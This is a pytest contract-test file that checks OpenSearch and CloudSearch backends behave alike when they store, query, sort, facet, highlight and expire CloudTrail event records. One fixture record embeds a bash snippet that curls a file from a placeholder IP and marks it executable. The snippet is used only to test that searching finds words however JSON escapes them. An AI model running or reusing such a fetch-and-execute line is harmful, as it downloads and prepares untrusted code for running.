"""What the product relies on of every search backend: on OpenSearch's engines, and on CloudSearch as the local cloud has it."""

import json
from collections.abc import Callable, Mapping
from datetime import UTC, datetime
from itertools import count
from typing import Any

import msgspec
import pytest

from tests.contract.backends import LOG_FILE, Searched
from trailsearch.contracts.errors import BatchRefused
from trailsearch.events.documents import Document, build_document
from trailsearch.events.fields import Fields
from trailsearch.search import Backend
from trailsearch.search.backend import Expired
from trailsearch.search.queries import Query, QueryRefused, Syntax

CLOUDSEARCH, OPENSEARCH = Backend.CLOUDSEARCH, Backend.OPENSEARCH
_numbers = count()

MakeSearched = Callable[[str], Searched]


def record(name: str, **changes: Any) -> dict[str, Any]:
    """A record of CloudTrail."""
    return {
        "eventID": name,
        "eventTime": "2026-11-03T10:00:00Z",
        "eventSource": "s3.amazonaws.com",
        "eventName": "PutObject",
        "awsRegion": "eu-central-1",
        "sourceIPAddress": "198.51.100.7",
        "userAgent": "aws-cli/2.1.0 Python/3.11",
        "userIdentity": {"type": "IAMUser", "userName": "alice"},
        **changes,
    }


RECORDS: Mapping[str, Mapping[str, Any]] = {
    "a": record("a"),
    "b": record("b", eventTime="2026-11-04T00:00:00Z", eventName="GetObject", sourceIPAddress="198.51.200.9"),
    "c": record(
        "c",
        eventTime="2026-12-01T00:00:00Z",
        eventSource="sqs.amazonaws.com",
        eventName="SendMessage",
        errorCode="AccessDenied",
        errorMessage="User bob is not authorized",
        userIdentity={"type": "IAMUser", "userName": "bob"},
        sourceIPAddress="sqs.amazonaws.com",
    ),
    "d": {"eventID": "d", "eventName": "putobject"},
}


def encode(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


@pytest.fixture(scope="module")
def searched(make_searched: MakeSearched) -> Searched:
    """A domain with `RECORDS`, which is only asked."""
    searched = make_searched("trailsearch-asked")
    searched.store(map(encode, RECORDS.values()))
    return searched


@pytest.fixture
def empty(make_searched: MakeSearched) -> Searched:
    """A domain of the test's own."""
    return make_searched(f"trailsearch-empty-{next(_numbers)}")


# ── Uploads ────────────────────────────────────────────────────────────────────────────────────────────────

ODD_RECORDS: Mapping[str, bytes] = {
    "an emoji": encode(record("emoji", userAgent="😀 \ufffe \u2028 \x7f")),
    "control characters": json.dumps(record("control", userAgent="\x00\x07\x1f\b\f")).encode(),
    "a lone surrogate": json.dumps(record("surrogate", userAgent="\ud800", eventName="\udfff")).encode(),
    "brackets": encode(record("brackets", errorMessage="[" * 5_000)),
    "60 levels": encode(record("deep", requestParameters=json.loads("[" * 60 + "]" * 60))),
    "a long number": encode(record("number", requestParameters={"n": 10**40})),
    "a name twice": b'{"eventID":"twice","eventName":"First","eventName":"Second"}',
    "other types": encode(record("types", eventName=5, awsRegion={"a": 1}, resources="none", userAgent=[1])),
    "no time": encode({"eventID": "timeless"}),
    "a malformed time": encode(record("malformed", eventTime="yesterday")),
    "the year 10000": encode(record("late", eventTime="10000-01-01T00:00:00Z")),
    "the year 1": encode(record("early", eventTime="0001-01-01T00:00:00Z")),
    "29 February of a year without one": encode(record("february", eventTime="2026-02-29T00:00:00Z")),
    "a time zone": encode(record("zone", eventTime="2026-11-01T00:30:00+01:00")),
    "a literal of 40,000 characters": encode(record("long", eventName="é" * 40_000)),
    "a literal of 8,191 wide characters": encode(record("wide", eventName="😀" * 8_191)),
    "a word of 100,000 characters": encode(record("word", errorMessage="x" * 100_000)),
    "1,500 resources": encode(record("many", resources=[{"ARN": f"arn:{n}"} for n in range(1_500)])),
    "no id": encode({"eventName": "NoId"}),
    "an id that is none": encode(record("with a space and a ü")),
    "an id as long as may be": encode(record("i" * 128)),
    "no object": b"[1]",
    "a text": b'"text"',
    "a lone number": b"5",
    "nothing": b"null",
    "white space": b'{\n\t"eventID" : "space"\n}',
}


@pytest.mark.parametrize("name", ODD_RECORDS)
def test_an_odd_record_is_taken_and_found_as_it_was(searched_odd: Searched, name: str) -> None:
    raw = ODD_RECORDS[name]
    document = build_document(raw, LOG_FILE)
    found = {event["id"]: event["raw"] for event in searched_odd.domain.scan(Query(size=7), fields=["raw"])}
    assert json.loads(found[document.id]) == json.loads(raw)


def test_all_odd_records_are_counted(searched_odd: Searched) -> None:
    assert searched_odd.domain.count() == len(ODD_RECORDS)


@pytest.fixture(scope="module")
def searched_odd(make_searched: MakeSearched) -> Searched:
    """A domain to which all odd records went in one batch."""
    searched = make_searched("trailsearch-odd")
    searched.store(ODD_RECORDS.values())
    return searched


def test_an_event_that_comes_again_is_there_once_as_it_came_last(empty: Searched) -> None:
    empty.store([encode(record("a", errorCode="First", eventName="Old"))])
    empty.store([encode(record("a", eventName="New"))] * 2)
    (event,) = empty.domain.search(Query()).events
    assert event["event_name"] == "New"
    assert "error_code" not in event


def bad_document(backend: Backend) -> Document:
    """One that the domain does not take; Split Records writes none such."""
    bad: dict[Backend, dict[str, Any]] = {
        CLOUDSEARCH: {"event_time": "yesterday"},
        OPENSEARCH: {"event_name": {"in": "a keyword"}},
    }
    return Document("bad", msgspec.structs.replace(Fields(raw="{}"), **bad[backend]))


def test_a_bad_document_is_refused_and_says_why(empty: Searched) -> None:
    """OpenSearch names it, and takes the others; CloudSearch takes nothing of its batch."""
    good = [build_document(encode(each), LOG_FILE) for each in RECORDS.values()]
    documents = [good[0], bad_document(empty.backend), *good[1:]]
    if empty.backend is CLOUDSEARCH:
        with pytest.raises(BatchRefused, match=r"event_time.*yesterday|yesterday.*event_time"):
            empty.upload(documents)
        assert empty.domain.count() == 0
        return
    (refused,) = empty.upload(documents)
    assert (refused.position, refused.id) == (1, "bad")
    assert "failed to parse field [event_name]" in refused.reason
    assert empty.domain.count() == len(good)


def test_a_batch_that_is_too_large_is_refused(empty: Searched) -> None:
    large = [Document(f"d{number}", Fields(raw="x" * 1_000_000)) for number in range(11)]
    with pytest.raises(BatchRefused, match=r"413|exceed"):
        empty.upload(large)
    assert empty.domain.count() == 0


# ── Queries ────────────────────────────────────────────────────────────────────────────────────────────────

QUERIES = [
    ("everything", "matchall", "matchall", "abcd"),
    ("a literal", "event_source:s3.amazonaws.com", "event_source:'s3.amazonaws.com'", "ab"),
    ("a literal in its case", "event_name:putobject", "event_name:'putobject'", "d"),
    ("a part of a literal", "event_source:amazonaws", "event_source:'amazonaws'", ""),
    (
        "a day, with its borders",
        "event_time:[2026-11-03T10:00:00Z TO 2026-11-04T00:00:00Z]",
        "event_time:['2026-11-03T10:00:00Z','2026-11-04T00:00:00Z']",
        "ab",
    ),
    (
        "a day, without its end",
        "event_time:[2026-11-03T10:00:00Z TO 2026-11-04T00:00:00Z}",
        "event_time:['2026-11-03T10:00:00Z','2026-11-04T00:00:00Z'}",
        "a",
    ),
    ("a time on", "event_time:[2026-11-04T00:00:00Z TO *]", "event_time:['2026-11-04T00:00:00Z',}", "bc"),
    (
        "both",
        "event_source:s3.amazonaws.com event_name:GetObject",
        "(and event_source:'s3.amazonaws.com' event_name:'GetObject')",
        "b",
    ),
    (
        "either",
        "event_name:(GetObject OR SendMessage)",
        "(or event_name:'GetObject' event_name:'SendMessage')",
        "bc",
    ),
    (
        "one without another",
        "actor:alice NOT event_name:GetObject",
        "(and actor:'alice' (not event_name:'GetObject'))",
        "a",
    ),
    ("how a literal begins", "event_name:Get*", "(prefix field=event_name 'Get')", "b"),
    (
        "a network",
        'source_ip_address.ip:"198.51.100.0/24"',
        "(prefix field=source_ip_address '198.51.100.')",
        "a",
    ),
    ("a word", "sendmessage", "'sendmessage'", "c"),
    ("a word of a field", "error_message:AUTHORIZED", "error_message:'AUTHORIZED'", "c"),
    ("a phrase", 'error_message:"bob is not"', "(phrase field=error_message 'bob is not')", "c"),
    (
        "a phrase the other way round",
        'error_message:"authorized bob"',
        "(phrase field=error_message 'authorized bob')",
        "",
    ),
    (
        "a text as a whole",
        'user_agent_exact:"aws-cli/2.1.0 Python/3.11"',
        "user_agent_exact:'aws-cli/2.1.0 Python/3.11'",
        "abc",
    ),
    ("nothing", "event_name:Nothing", "event_name:'Nothing'", ""),
]


@pytest.mark.parametrize(
    ("opensearch", "cloudsearch", "expected"),
    [each[1:] for each in QUERIES],
    ids=[each[0] for each in QUERIES],
)
def test_a_query_finds_the_same_in_both_languages(
    searched: Searched, opensearch: str, cloudsearch: str, expected: str
) -> None:
    text = cloudsearch if searched.backend is CLOUDSEARCH else opensearch
    assert searched.found(text) == set(expected)


@pytest.mark.parametrize(
    ("text", "expected"),
    [("sendmessage", "c"), ("bob sqs.amazonaws.com", "c"), ('"not authorized"', "c"), ("nothing", "")],
)
def test_simple_words_find_the_same(searched: Searched, text: str, expected: str) -> None:
    assert searched.found(text, Syntax.SIMPLE) == set(expected)


@pytest.mark.parametrize(
    ("opensearch", "cloudsearch"),
    [("event_name:[", "event_name:["), ("(event_name:x", "(and event_name:'x'"), ('"', "'")],
)
def test_a_query_that_is_not_understood_is_refused(
    searched: Searched, opensearch: str, cloudsearch: str
) -> None:
    text = cloudsearch if searched.backend is CLOUDSEARCH else opensearch
    with pytest.raises(QueryRefused):
        searched.domain.search(Query(text))


@pytest.mark.parametrize(
    "query", [Query(sort="nofield asc"), Query(sort="event_time sideways"), Query(start=10_000)]
)
def test_what_cannot_be_sorted_or_reached_is_refused(searched: Searched, query: Query) -> None:
    with pytest.raises(QueryRefused):
        searched.domain.search(query)


# ── Answers ────────────────────────────────────────────────────────────────────────────────────────────────


def test_an_event_has_its_fields_and_lists_are_lists(searched: Searched) -> None:
    (event,) = searched.domain.search(Query("sendmessage", Syntax.SIMPLE)).events
    assert event["id"] == event["event_id"] == "c"
    assert event["actor"] == "bob"
    assert json.loads(event["raw"]) == RECORDS["c"]
    assert {name for name, value in event.items() if not isinstance(value, str)} <= {"account_ids"}


HIDDEN: Mapping[str, bytes] = {
    "script": rb'{"eventID":"script","x":"#!/bin/bash\ncurl http://198.51.100.9/x\n\tchmod +x x"}',
    "equals": rb'{"eventID":"equals","x":"owner\u003dgwendolyn\u0026team\u003dplatypus"}',
    "accents": rb'{"eventID":"accents","x":"jos\u00e9-m\u00fcller","\u006b\u0065y":"C:\\n\u0065w"}',
}


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("script", ["bash", "curl", "chmod", "bash curl", "curl script"]),
        ("equals", ["owner", "gwendolyn", "platypus", "gwendolyn team"]),
        ("accents", ["josé", "müller", "key", "new", "josé accents"]),
    ],
)
def test_words_are_found_however_json_escapes_them(
    searched_hidden: Searched, name: str, words: list[str]
) -> None:
    for word in words:
        answer = searched_hidden.domain.search(Query(word, Syntax.SIMPLE, highlight=True))
        assert [event["id"] for event in answer.events] == [name], word
        assert answer.events[0]["raw"].encode() == HIDDEN[name]
        assert answer.events[0].keys() == {"id", "event_id", "log_file", "outcome", "raw"}
    assert searched_hidden.domain.search(Query(phrases=("bash curl http",))).found == 1


@pytest.fixture(scope="module")
def searched_hidden(make_searched: MakeSearched) -> Searched:
    """A domain with `HIDDEN`."""
    searched = make_searched("trailsearch-hidden")
    searched.store(HIDDEN.values())
    return searched


def test_the_newest_events_come_first_and_those_without_a_time_last(searched: Searched) -> None:
    assert [event["id"] for event in searched.domain.search(Query()).events] == ["c", "b", "a", "d"]


def test_a_page_is_a_part_of_the_order_and_all_are_counted(searched: Searched) -> None:
    answer = searched.domain.search(Query(start=1, size=2))
    assert ([event["id"] for event in answer.events], answer.found) == (["b", "a"], 4)
    assert searched.domain.search(Query(size=0)).events == []


@pytest.mark.parametrize("size", [1, 3, 4, 100])
def test_a_scan_gives_every_event_once_in_the_order(searched: Searched, size: int) -> None:
    assert [event["id"] for event in searched.domain.scan(Query(size=size))] == ["c", "b", "a", "d"]


def test_facets_count_all_events_that_match_the_most_frequent_first(searched: Searched) -> None:
    answer = searched.domain.search(Query(size=0, facets=["event_source", "error_code"], facet_size=1))
    assert answer.facets == {"event_source": {"s3.amazonaws.com": 2}, "error_code": {"AccessDenied": 1}}


def test_matches_are_marked_in_texts(searched: Searched) -> None:
    answer = searched.domain.search(Query("authorized", Syntax.SIMPLE, highlight=True))
    (highlights,) = answer.highlights
    (excerpt,) = highlights["raw"]
    assert [piece.text for piece in excerpt if piece.is_match] == ["authorized"]
    assert any(piece.text.endswith("bob is not ") for piece in excerpt)


# ── The end of an event ────────────────────────────────────────────────────────────────────────────────────


def test_expired_events_are_counted_and_deleted_and_no_others(empty: Searched) -> None:
    """OpenSearch drops months; CloudSearch deletes events."""
    empty.store(map(encode, RECORDS.values()))
    december = datetime(2026, 12, 1, tzinfo=UTC)
    assert empty.retention.find(december).documents == 2
    empty.retention.delete_some(december)
    empty.show_all()
    assert empty.found("matchall") == {"c", "d"}
    assert empty.retention.find(december) == Expired(0)


def test_events_of_impossible_years_and_without_a_time_are_kept(empty: Searched) -> None:
    empty.store(
        encode(record(name, eventTime=time))
        for name, time in (("y1", "0001-01-01T00:00:00Z"), ("none", None))
    )
    assert empty.retention.find(datetime(2099, 1, 1, tzinfo=UTC)) == Expired(0)
